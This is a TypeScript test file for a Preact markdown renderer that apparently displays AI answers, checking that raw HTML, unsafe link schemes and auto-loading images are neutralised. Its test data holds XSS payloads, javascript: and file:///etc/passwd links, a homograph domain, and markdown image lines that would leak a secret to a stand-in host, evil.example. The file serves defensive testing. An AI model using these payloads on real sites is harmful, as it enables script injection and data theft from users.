import type { ComponentChildren, VNode } from 'preact';
import { expect, test } from 'vitest';
import { imageHost } from './blocked-image.tsx';
import { blocksOf } from './blocks.ts';
import { decodeEntities } from './entities.ts';
import { nodesOf } from './nodes.tsx';
import { OutsideLink, outsideAddress } from './outside-link.tsx';

test('renders what answers are made of', () => {
  expect(html('## Two\n\nA **bold** _word_, `code`, ~~gone~~.')).toBe(
    '<h3>Two</h3><p>A <strong>bold</strong> <em>word</em>, <code>code</code>, <del>gone</del>.</p>',
  );
  expect(html('3. c\n4. d')).toBe('<ol start="3"><li>c</li><li>d</li></ol>');
  expect(html('|a|b|\n|-|:-:|\n|1|2|')).toContain('<thead><tr><th>a</th>');
  expect(html('- [x] done')).toContain('<li class="task">☑ done</li>');
  expect(html('AT&amp;T &lt;b&gt; &#8364; &nosuch;')).toBe('<p>AT&T &lt;b> € &nosuch;</p>');
});

test('HTML in an answer is text', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'a <b onclick=x>b</b>',
    '<iframe srcdoc="<script>1</script>"></iframe>',
    '<svg><use href="https://evil.example/x"/></svg>',
    '<a id=config href="javascript:alert(1)">x</a>',
    '<!-- x --><style>@import "https://evil.example"</style>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  ];
  for (const text of hostile) {
    expect(html(text)).not.toMatch(/<(?!\/?p>|a href="https:\/\/evil)/);
    expect(letters(textIn(nodes(text)))).toBe(letters(text));
  }
});

test('a link leads to http, https or mail only, and says to whom', () => {
  for (const href of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'blob:https://x/y',
    'file:///etc/passwd',
    '/relative',
    'https://user@bank.example',
  ]) {
    expect(outsideAddress(href)).toBeUndefined();
  }
  expect(outsideAddress('https://аррӏе.com/')?.host).toBe('xn--80ak6aa92e.com');
  expect(html('[bank.example](javascript:alert(1))')).not.toContain('<a');
  expect(html('[x](java&#115;cript:alert(1))')).not.toContain('<a');
});

test('an image is never an element before somebody asked for it', () => {
  for (const text of [
    '![x](https://evil.example/?q=secret)',
    '![x][r]\n\n[r]: https://evil.example/',
    '[![x](https://evil.example/i)](https://evil.example/)',
  ]) {
    expect(html(text)).not.toContain('<img');
  }
  expect(imageHost('https://evil.example/a.png')).toBe('evil.example');
  expect(imageHost('data:image/png;base64,AAAA')).toBe('');
  for (const address of ['data:image/svg+xml,<svg/>', 'data:text/html,x', 'javascript:1', 'file:///x', 'https://user@host/', 'x']) {
    expect(imageHost(address)).toBeUndefined();
  }
});

test('entities become characters, and only whole ones', () => {
  expect(decodeEntities('&lt;a&gt; &#x41; &#65; &amp;amp; & &x &#1114112;')).toBe('<a> A A &amp; & &x &#1114112;');
});

function nodes(text: string): ComponentChildren[] {
  return blocksOf(text).flatMap((block) => (block.type === 'markdown' ? nodesOf(block.tokens) : []));
}

/** As HTML. Links are resolved; what has a state of its own appears by its name. */
function html(text: string): string {
  return nodes(text).map(write).join('');
}

function write(node: ComponentChildren): string {
  if (Array.isArray(node)) return node.map(write).join('');
  if (node === null || node === undefined || typeof node === 'boolean') return '';
  if (typeof node !== 'object') return String(node).replace(/</g, '&lt;');
  const { type, props } = node as VNode<Record<string, unknown> & { href: string; children: ComponentChildren }>;
  if (type === OutsideLink) return write(OutsideLink(props));
  const name = typeof type === 'string' ? type : type.name;
  const attributes = Object.entries(props)
    .filter(([key, value]) => key !== 'children' && value !== undefined && value !== false && key !== 'address' && key !== 'style')
    .map(([key, value]) => (value === true ? ` ${key}` : ` ${key}="${String(value)}"`))
    .join('');
  return `<${name}${attributes}>${write(props.children)}</${name}>`;
}

function textIn(node: ComponentChildren): string {
  if (Array.isArray(node)) return node.map(textIn).join('');
  if (node === null || node === undefined || typeof node === 'boolean') return '';
  return typeof node === 'object' ? textIn((node as VNode<{ children: ComponentChildren }>).props.children) : String(node);
}

function letters(text: string): string {
  return text.replace(/\W/g, '');
}
